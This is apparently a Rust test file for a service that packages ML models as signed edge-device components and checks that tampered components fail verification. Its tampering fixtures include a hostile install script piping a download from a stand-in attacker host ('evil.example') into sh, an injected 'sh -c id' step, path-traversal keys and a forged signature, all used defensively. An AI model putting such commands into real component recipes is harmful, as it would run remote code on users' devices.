//! A component for each documented configuration: recipe checked against the format,
//! digests verified, a tampered artifact detected, the plan packed for the target's kernels.

mod common;

use common::{import_sample, project_with_sample, service, start, x86};
use kernels::{can_run, KernelSetId};
use package::component::{recipe_problems, verify};
use package::packaging::key_prefix;
use package::sample::SampleKind;
use package::shapes::{GreengrassConfiguration, TargetPlatform};
use package::signing::PublicKey;
use serde_json::{json, Value};

fn platform(arch: &str, acc: Option<&str>) -> Option<TargetPlatform> {
    Some(TargetPlatform { os: Some("LINUX".into()), arch: Some(arch.into()), accelerator: acc.map(Into::into) })
}

fn configs() -> Vec<(&'static str, GreengrassConfiguration, KernelSetId, &'static str)> {
    let mut arm = x86("cortex-a72", "arm");
    arm.target_platform = platform("ARM64", None);
    arm.compiler_options = Some("{'mcpu': 'cortex-a72', 'mattr': ['+neon', '+vfpv4']}".into());
    let mut jetson = x86("", "jetson");
    jetson.target_platform = None;
    jetson.compiler_options = None;
    jetson.target_device = Some("jetson_xavier".into());
    let mut gpu = x86("", "g4dn");
    gpu.target_platform = platform("X86_64", Some("NVIDIA"));
    gpu.compiler_options = Some(r#"{"gpu-code": "sm_75", "trt-ver": "8.2.1", "cuda-ver": "11.4"}"#.into());
    vec![
        ("x86 CPU avx2", x86("core-avx2", "avx2"), KernelSetId::Avx2, "amd64"),
        ("x86 CPU avx512", x86("skylake-avx512", "avx512"), KernelSetId::Avx512, "amd64"),
        ("ARM64 CPU", arm, KernelSetId::Neon, "aarch64"),
        ("jetson_xavier", jetson, KernelSetId::Cuda, "aarch64"),
        ("X86_64 + NVIDIA", gpu, KernelSetId::Cuda, "amd64"),
    ]
}

/// A service with the sample model packaged for AVX2 as component `c` 1.0.0; its key prefix.
fn packaged() -> (tempfile::TempDir, package::Service, String) {
    let (dir, svc) = service();
    project_with_sample(&svc, "p");
    let job = svc.start_model_packaging_job(&start("p", "1", x86("core-avx2", "c"))).unwrap().job_name;
    svc.run_job("p", &job).unwrap();
    (dir, svc, key_prefix(Some("factory"), "c", "1.0.0"))
}

/// The service's own public key.
fn key(svc: &package::Service) -> PublicKey {
    svc.signer().expect("signing key").public_key()
}

fn json(svc: &package::Service, bucket: &str, key: &str) -> Value {
    serde_json::from_slice(&svc.output().get(bucket, key).expect("object")).expect("JSON")
}

#[test]
fn every_documented_configuration_makes_a_verified_component() {
    let (_dir, svc) = service();
    project_with_sample(&svc, "factory");
    for (what, gg, set, arch) in configs() {
        let component = gg.component_name.clone().unwrap();
        let job = svc.start_model_packaging_job(&start("factory", "1", gg)).expect(what).job_name;
        assert!(svc.run_job("factory", &job).expect(what), "{what}: job not claimed");
        let d = svc.describe_model_packaging_job("factory", &job).unwrap().model_packaging_description;
        assert_eq!(d.job.status, "SUCCEEDED", "{what}: {:?}", d.job.status_message);
        let out = d.model_packaging_output_details.expect("output details").greengrass;
        assert_eq!(out.component_name, component);
        assert_eq!(out.component_version, "1.0.0", "{what}: ComponentVersion defaults to <ModelVersion>.0.0");
        let prefix = key_prefix(Some("factory"), &component, "1.0.0");
        let v = verify(svc.output(), "components", &prefix, &key(&svc)).unwrap_or_else(|e| panic!("{what}: {e}"));
        assert_eq!(v.artifacts.len(), 4, "{what}: plan, model, manifest, parity report");
        assert_eq!(v.signed_by, key(&svc).key_id(), "{what}");
        let recipe = json(&svc, "components", &format!("{prefix}/recipe.json"));
        assert!(recipe_problems(&recipe).is_empty(), "{what}: {:?}", recipe_problems(&recipe));
        assert_eq!(recipe["Manifests"][0]["Platform"]["architecture"], arch, "{what}");
        let manifest = json(&svc, "components", &format!("{prefix}/manifest.json"));
        assert_eq!(manifest["Target"]["KernelSet"], set.name(), "{what}");
        // The plan is packed for the target's set, whatever this machine runs.
        let plan = svc.output().get("components", &format!("{prefix}/model.eppl")).unwrap();
        let plan = model::plan::Plan::from_bytes(&plan).unwrap_or_else(|e| panic!("{what}: {e}"));
        assert_eq!(plan.kernel_name, set.name(), "{what}");
        let parity = json(&svc, "components", &format!("{prefix}/parity.json"));
        if can_run(set) {
            assert_eq!(parity["Status"], "PASSED", "{what}: {parity}");
            assert!(parity["Outputs"][0]["MaxRelErr"].as_f64().unwrap() <= 1e-4, "{what}");
        } else {
            assert_eq!(parity["Status"], "PENDING_ON_DEVICE", "{what}: {parity}");
            println!("{what}: parity pending on the device: {}", parity["Reason"]);
        }
        // The device parity check runs with the agent component's binary, not `edgepack`.
        let install = recipe["Manifests"][0]["Lifecycle"]["Install"]["Script"].as_str().unwrap();
        let agent = format!(
            "{{edgepack.EdgeAgent:artifacts:path}}/edgepack-agent-{arch} parity --component {{artifacts:path}}"
        );
        assert!(install.starts_with(&agent), "{what}: {install}");
        assert_eq!(manifest["Plan"]["Sha256"].as_str().map(str::len), Some(64), "{what}: the plan's digest");
    }
    // One agent component beside them, for both architectures, with a Run step.
    let prefix = key_prefix(Some("factory"), "edgepack.EdgeAgent", package::agent_component::AGENT_VERSION);
    let v = verify(svc.output(), "components", &prefix, &key(&svc)).expect("the agent component verifies");
    assert_eq!(v.artifacts.len(), 2, "{v:?}");
    let recipe = json(&svc, "components", &format!("{prefix}/recipe.json"));
    assert!(recipe_problems(&recipe).is_empty(), "{:?}", recipe_problems(&recipe));
    for (m, arch) in recipe["Manifests"].as_array().unwrap().iter().zip(["amd64", "aarch64"]) {
        assert_eq!(m["Platform"]["architecture"], arch);
        let run = m["Lifecycle"]["Run"]["Script"].as_str().unwrap();
        assert!(run.starts_with(&format!("{{artifacts:path}}/edgepack-agent-{arch} --socket")), "{run}");
        assert_eq!(m["Artifacts"][0]["Permission"]["Execute"], "ALL");
    }
}

fn arm_config(component: &str) -> GreengrassConfiguration {
    let mut arm = x86("", component);
    arm.target_platform = platform("ARM64", None);
    arm.compiler_options = Some("{'mcpu': 'cortex-a72'}".into());
    arm
}

#[test]
fn a_job_without_the_targets_agent_build_fails_clearly() {
    let (dir, svc) = service();
    project_with_sample(&svc, "p");
    std::fs::remove_file(dir.path().join("agent-builds/aarch64/edgepack-agent")).unwrap();
    let arm = arm_config("arm");
    let job = svc.start_model_packaging_job(&start("p", "1", arm)).unwrap().job_name;
    svc.run_job("p", &job).unwrap();
    let d = svc.describe_model_packaging_job("p", &job).unwrap().model_packaging_description;
    assert_eq!(d.job.status, "FAILED");
    let m = d.job.status_message.unwrap();
    assert!(m.contains("edge agent for aarch64 has not been built") && m.contains("ci/build-agent.sh aarch64"), "{m}");
    // The x86 build is there: an x86 job succeeds, and its agent component has no aarch64 manifest.
    let job = svc.start_model_packaging_job(&start("p", "1", x86("core-avx2", "c"))).unwrap().job_name;
    svc.run_job("p", &job).unwrap();
    let d = svc.describe_model_packaging_job("p", &job).unwrap().model_packaging_description;
    assert_eq!(d.job.status, "SUCCEEDED", "{:?}", d.job.status_message);
    // Now an ARM job to the same place, with the aarch64 build made meanwhile: the published
    // agent component cannot change, and the job says so.
    std::fs::write(dir.path().join("agent-builds/aarch64/edgepack-agent"), "late").unwrap();
    let arm = arm_config("arm2");
    let job = svc.start_model_packaging_job(&start("p", "1", arm)).unwrap().job_name;
    svc.run_job("p", &job).unwrap();
    let d = svc.describe_model_packaging_job("p", &job).unwrap().model_packaging_description;
    assert_eq!(d.job.status, "FAILED");
    assert!(d.job.status_message.unwrap().contains("has no aarch64 build"));
}

#[test]
fn a_tampered_or_missing_artifact_is_detected() {
    let (dir, svc, prefix) = packaged();
    verify(svc.output(), "components", &prefix, &key(&svc)).expect("untouched component verifies");
    // The prefix as job messages print it, with a trailing slash, names the same component.
    verify(svc.output(), "components", &format!("{prefix}/"), &key(&svc)).expect("a trailing slash verifies too");
    let folder = dir.path().join("buckets/components").join(&prefix);
    let plan = folder.join("model.eppl");
    let mut bytes = std::fs::read(&plan).unwrap();
    let last = bytes.len() - 1;
    bytes[last] ^= 1;
    std::fs::write(&plan, &bytes).unwrap();
    let e = verify(svc.output(), "components", &prefix, &key(&svc)).expect_err("tampered plan");
    assert!(e.message.contains("model.eppl") && e.message.contains("changed"), "{e}");
    std::fs::remove_file(folder.join("manifest.json")).unwrap();
    bytes[last] ^= 1;
    std::fs::write(&plan, &bytes).unwrap();
    let e = verify(svc.output(), "components", &prefix, &key(&svc)).expect_err("missing manifest");
    assert!(e.message.contains("manifest.json") && e.message.contains("does not exist"), "{e}");
    assert_eq!(e.kind, package::ErrorKind::Validation, "a missing object is the caller's to fix");
}

#[test]
fn the_same_request_packages_byte_identical_artifacts() {
    let (_dir, svc) = service();
    project_with_sample(&svc, "p");
    let mut digests = Vec::new();
    for version in ["1.0.0", "1.0.1"] {
        let mut gg = x86("core-avx2", "repro");
        gg.component_version = Some(version.into());
        let job = svc.start_model_packaging_job(&start("p", "1", gg)).unwrap().job_name;
        svc.run_job("p", &job).unwrap();
        let recipe =
            json(&svc, "components", &format!("{}/recipe.json", key_prefix(Some("factory"), "repro", version)));
        // Every artifact but the manifest, which names the component version.
        let d: Vec<(Value, Value)> = recipe["Manifests"][0]["Artifacts"]
            .as_array()
            .unwrap()
            .iter()
            .filter(|a| !a["URI"].as_str().unwrap().ends_with("manifest.json"))
            .map(|a| (a["URI"].as_str().unwrap().rsplit('/').next().unwrap().into(), a["Digest"].clone()))
            .collect();
        assert_eq!(d.len(), 3);
        digests.push(d);
    }
    assert_eq!(digests[0], digests[1], "plan, model and parity report are reproducible");
}

#[test]
fn classification_models_package_too() {
    let (_dir, svc) = service();
    svc.create_project("cls").unwrap();
    let v = import_sample(&svc, "cls", SampleKind::Classification, 48, 64);
    let job = svc.start_model_packaging_job(&start("cls", &v, x86("core-avx2", "cls"))).unwrap().job_name;
    svc.run_job("cls", &job).unwrap();
    let d = svc.describe_model_packaging_job("cls", &job).unwrap().model_packaging_description;
    assert_eq!(d.job.status, "SUCCEEDED", "{:?}", d.job.status_message);
    let manifest = json(&svc, "components", &format!("{}/manifest.json", key_prefix(Some("factory"), "cls", "1.0.0")));
    assert_eq!(manifest["Contract"]["Output"]["Kind"], "CLASSIFICATION");
    assert_eq!(manifest["Contract"]["Output"]["ScoreIndex"], 1);
}

/// The issue's acceptance case: the real detection model (PP-OCRv4 det, 640×640, fetched by
/// ci/fetch-models.sh) packaged for this host's best CPU target passes parity in the job.
#[test]
fn the_detection_model_packaged_for_this_host_passes_parity() {
    let det = &harness::models::MODELS[0];
    let onnx = det.bytes().unwrap_or_else(|e| panic!("{e}"));
    let (_dir, svc) = service();
    svc.create_project("ocr").unwrap();
    let contract = package::contract::ModelContract {
        input: package::contract::InputSpec {
            name: "x".into(),
            shape: det.shape(),
            scale: 1.0 / 255.0,
            mean: [0.485, 0.456, 0.406],
            std: [0.229, 0.224, 0.225],
        },
        output: package::contract::OutputSpec::Segmentation {
            mask_output: "sigmoid_0.tmp_0".into(),
            classes: vec![package::contract::MaskClass { name: "text".into(), color: "#00ff00".into() }],
            threshold: 0.3,
        },
    };
    let v = common::import(&svc, "ocr", onnx, contract);
    let mcpu = if can_run(KernelSetId::Avx512) {
        "skylake-avx512"
    } else if can_run(KernelSetId::Avx2) {
        "core-avx2"
    } else {
        "x86-64"
    };
    let job = svc.start_model_packaging_job(&start("ocr", &v, x86(mcpu, "ocr.Detector"))).unwrap().job_name;
    svc.run_job("ocr", &job).unwrap();
    let d = svc.describe_model_packaging_job("ocr", &job).unwrap().model_packaging_description;
    assert_eq!(d.job.status, "SUCCEEDED", "{:?}", d.job.status_message);
    let parity =
        json(&svc, "components", &format!("{}/parity.json", key_prefix(Some("factory"), "ocr.Detector", "1.0.0")));
    assert_eq!(parity["Status"], "PASSED", "{parity}");
    let err = parity["Outputs"][0]["MaxRelErr"].as_f64().unwrap();
    assert!(err <= 1e-4, "{err}");
    println!("detector packaged for {mcpu}: {}", d.job.status_message.unwrap());
}

#[test]
fn keys_that_would_leave_the_bucket_folder_fail_the_job_and_write_nothing() {
    let (dir, svc) = service();
    project_with_sample(&svc, "p");
    let mut by_name = x86("core-avx2", "..");
    by_name.component_version = Some("1.0.0".into());
    let mut by_prefix = x86("core-avx2", "c");
    by_prefix.s3_output_location.as_mut().unwrap().prefix = Some("a/../../../escaped".into());
    for gg in [by_name, by_prefix] {
        let job = svc.start_model_packaging_job(&start("p", "1", gg)).unwrap().job_name;
        svc.run_job("p", &job).unwrap();
        let d = svc.describe_model_packaging_job("p", &job).unwrap().model_packaging_description;
        assert_eq!(d.job.status, "FAILED");
        assert!(d.job.status_message.as_deref().unwrap().contains("'..' segments"), "{:?}", d.job.status_message);
    }
    assert!(!dir.path().join("escaped").exists() && !dir.path().join("buckets/escaped").exists());
    let e = verify(svc.output(), "components", "../../etc", &key(&svc)).unwrap_err();
    assert!(e.message.contains("segments"), "{e}");
}

/// One tampering of a published component: what it does to the folder, and what the
/// verification must say about it.
struct Tamper {
    what: &'static str,
    apply: fn(&std::path::Path),
    says: &'static [&'static str],
}

fn edit_json(path: &std::path::Path, f: impl FnOnce(&mut Value)) {
    let mut v: Value = serde_json::from_slice(&std::fs::read(path).unwrap()).unwrap();
    f(&mut v);
    std::fs::write(path, serde_json::to_string_pretty(&v).unwrap() + "\n").unwrap();
}

/// Rewrites the recipe and keeps `create-component-version.json`'s inline copy in step, as a
/// careful attacker would: only the signature (and the service's own rules) can tell.
fn edit_recipe(dir: &std::path::Path, f: impl FnOnce(&mut Value)) {
    edit_json(&dir.join("recipe.json"), f);
    let recipe = std::fs::read(dir.join("recipe.json")).unwrap();
    edit_json(&dir.join("create-component-version.json"), |c| {
        c["inlineRecipe"] = base64::Engine::encode(&base64::engine::general_purpose::STANDARD, &recipe).into();
    });
}

/// Replaces artifact `index` (`file`) by what `change` makes of it and updates its digest in
/// the recipe to match, as a careful attacker would.
fn swap_artifact(dir: &std::path::Path, index: usize, file: &str, change: impl FnOnce(&std::path::Path)) {
    change(&dir.join(file));
    let digest = package::component::digest(&std::fs::read(dir.join(file)).unwrap());
    edit_recipe(dir, |r| r["Manifests"][0]["Artifacts"][index]["Digest"] = digest.into());
}

const TAMPERINGS: &[Tamper] = &[
    Tamper {
        what: "Install script replaced by a download",
        apply: |d| {
            edit_recipe(d, |r| {
                r["Manifests"][0]["Lifecycle"]["Install"]["Script"] = "curl -s http://evil.example/x | sh".into()
            })
        },
        says: &["Lifecycle.Install script is not the service's", "recipe.json is not the file that was signed"],
    },
    Tamper {
        what: "a Run step added",
        apply: |d| edit_recipe(d, |r| r["Manifests"][0]["Lifecycle"]["Run"] = json!({ "Script": "sh -c id" })),
        says: &["the service writes Install only"],
    },
    Tamper {
        what: "create-component-version.json's inline recipe replaced",
        apply: |d| {
            edit_json(&d.join("create-component-version.json"), |c| {
                c["inlineRecipe"] = base64::Engine::encode(&base64::engine::general_purpose::STANDARD, b"{}").into()
            })
        },
        says: &["inlineRecipe is not recipe.json", "create-component-version.json is not the file that was signed"],
    },
    Tamper {
        what: "create-component-version.json deleted (a publish that stopped before its last file)",
        apply: |d| std::fs::remove_file(d.join("create-component-version.json")).unwrap(),
        says: &["create-component-version.json does not exist"],
    },
    Tamper {
        what: "model.onnx swapped, the recipe's digest updated to match",
        apply: |d| swap_artifact(d, 1, "model.onnx", |p| std::fs::write(p, b"another model").unwrap()),
        says: &["manifest.json gives the model SHA-256", "recipe.json is not the file that was signed"],
    },
    Tamper {
        what: "a recipe with zero artifacts",
        apply: |d| edit_recipe(d, |r| r["Manifests"][0]["Artifacts"] = json!([])),
        says: &["Artifacts are []"],
    },
    Tamper {
        what: "an artifact URI into another bucket",
        apply: |d| {
            edit_recipe(d, |r| {
                let a = &mut r["Manifests"][0]["Artifacts"][0]["URI"];
                *a = a.as_str().unwrap().replace("s3://components/", "s3://elsewhere/").into();
            })
        },
        says: &["s3://elsewhere/", "the service writes"],
    },
    Tamper {
        what: "manifest.json edited (its digest in the recipe updated)",
        apply: |d| {
            swap_artifact(d, 2, "manifest.json", |p| edit_json(p, |m| m["Plan"]["Sha256"] = "0".repeat(64).into()))
        },
        says: &["manifest.json gives the plan SHA-256 000", "recipe.json is not the file that was signed"],
    },
    Tamper {
        what: "the signature removed",
        apply: |d| std::fs::remove_file(d.join("signature.json")).unwrap(),
        says: &["signature.json"],
    },
    Tamper {
        what: "the agent dependency dropped",
        apply: |d| edit_recipe(d, |r| r["ComponentDependencies"] = json!({})),
        says: &["ComponentDependencies {} are not the service's"],
    },
];

/// Issue 27, item 8: every tampering the issue lists (and a few more) fails verification with
/// a message naming it, whether or not the attacker kept the files consistent with each
/// other; a component signed by another service verifies only with that service's key.
#[test]
fn tampered_components_do_not_verify() {
    let (dir, svc, prefix) = packaged();
    let folder = dir.path().join("buckets/components").join(&prefix);
    let pristine: Vec<(std::path::PathBuf, Vec<u8>)> = std::fs::read_dir(&folder)
        .unwrap()
        .map(|e| e.unwrap().path())
        .map(|p| {
            let b = std::fs::read(&p).unwrap();
            (p, b)
        })
        .collect();
    assert_eq!(pristine.len(), 7, "four artifacts, signature, recipe, create-component-version.json");
    let restore = || {
        for e in std::fs::read_dir(&folder).unwrap() {
            std::fs::remove_file(e.unwrap().path()).unwrap();
        }
        for (p, b) in &pristine {
            std::fs::write(p, b).unwrap();
        }
    };
    for t in TAMPERINGS {
        restore();
        verify(svc.output(), "components", &prefix, &key(&svc)).expect("restored component verifies");
        (t.apply)(&folder);
        let e = verify(svc.output(), "components", &prefix, &key(&svc)).expect_err(t.what);
        assert_eq!(e.kind, package::ErrorKind::Validation, "{}", t.what);
        for says in t.says {
            assert!(e.message.contains(says), "{}: expected {says:?} in: {}", t.what, e.message);
        }
    }
    restore();
    // Another service's key: the signature is not its.
    let (_other_dir, other) = service();
    let e = verify(svc.output(), "components", &prefix, &key(&other)).expect_err("another key");
    assert!(e.message.contains("not with the trusted key"), "{e}");
    // The exported key, read back, is this service's.
    let exported = serde_json::to_string(&key(&svc).export()).unwrap();
    let v = verify(svc.output(), "components", &prefix, &PublicKey::parse(&exported).unwrap()).unwrap();
    assert_eq!(v.signed_by, key(&svc).key_id());
    // A signature made by another key over the very same files (an attacker with their own
    // key who rewrote the key id) does not verify either.
    let forged = other.signer().unwrap().sign(&[
        &package::output::OutputFile {
            name: "recipe.json".into(),
            bytes: std::fs::read(folder.join("recipe.json")).unwrap(),
        },
        &package::output::OutputFile {
            name: "create-component-version.json".into(),
            bytes: std::fs::read(folder.join("create-component-version.json")).unwrap(),
        },
    ]);
    let mut forged: Value = serde_json::from_slice(&forged.bytes).unwrap();
    forged["KeyId"] = key(&svc).key_id().into();
    std::fs::write(folder.join("signature.json"), serde_json::to_vec(&forged).unwrap()).unwrap();
    let e = verify(svc.output(), "components", &prefix, &key(&svc)).expect_err("forged signature");
    assert!(e.message.contains("does not verify with key"), "{e}");
}
